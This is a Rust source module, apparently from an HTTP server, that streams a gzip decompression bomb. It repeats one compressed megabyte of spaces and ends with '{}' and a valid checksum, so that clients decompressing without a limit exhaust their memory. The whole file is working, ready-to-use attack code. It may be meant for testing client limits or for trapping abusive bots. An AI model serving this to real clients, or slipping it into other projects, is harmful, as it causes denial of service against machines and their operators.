//! A gzip bomb: one compressed block of white space, repeated.

use std::iter;

use bytes::Bytes;
use flate2::{Compress, Compression, Crc, FlushCompress};

/// The decoded size of a block in bytes.
const BLOCK: usize = 1 << 20;

/// Magic number, deflate, no flags, no time, fastest, unknown system.
const HEADER: &[u8] = b"\x1f\x8b\x08\0\0\0\0\0\x04\xff";

/// What follows the white space, so that the body is valid JSON for a client without a limit.
const END: &[u8] = b"{}";

/// Returns the body in pieces. Each is generated when it is needed.
pub(crate) fn pieces(decoded: u64) -> impl Iterator<Item = Bytes> {
    let spaces = vec![b' '; BLOCK];
    let blocks = decoded.div_ceil(BLOCK as u64);
    // A full flush resets the compressor's state, so that the block can be repeated.
    let block = Bytes::from(deflated(&spaces, FlushCompress::Full));
    let end = iter::once_with(move || end(&spaces, blocks));
    iter::once(Bytes::from_static(HEADER)).chain((0..blocks).map(move |_| block.clone())).chain(end)
}

fn deflated(data: &[u8], flush: FlushCompress) -> Vec<u8> {
    // White space compresses to a thousandth, so that the result fits the buffer.
    let mut block = Vec::with_capacity(BLOCK / 16);
    let mut deflate = Compress::new(Compression::best(), false);
    // This can only fail with a wrong dictionary, and there is none.
    let _ = deflate.compress_vec(data, &mut block, flush);
    block
}

/// Returns the last block, with the checksum and length at the end of a gzip stream.
fn end(spaces: &[u8], blocks: u64) -> Bytes {
    let of = |data: &[u8]| {
        let mut crc = Crc::new();
        crc.update(data);
        crc
    };
    let (mut sum, block) = (Crc::new(), of(spaces));
    for _ in 0..blocks {
        sum.combine(&block);
    }
    sum.combine(&of(END));
    let mut end = deflated(END, FlushCompress::Finish);
    end.extend_from_slice(&sum.sum().to_le_bytes());
    end.extend_from_slice(&sum.amount().to_le_bytes());
    Bytes::from(end)
}
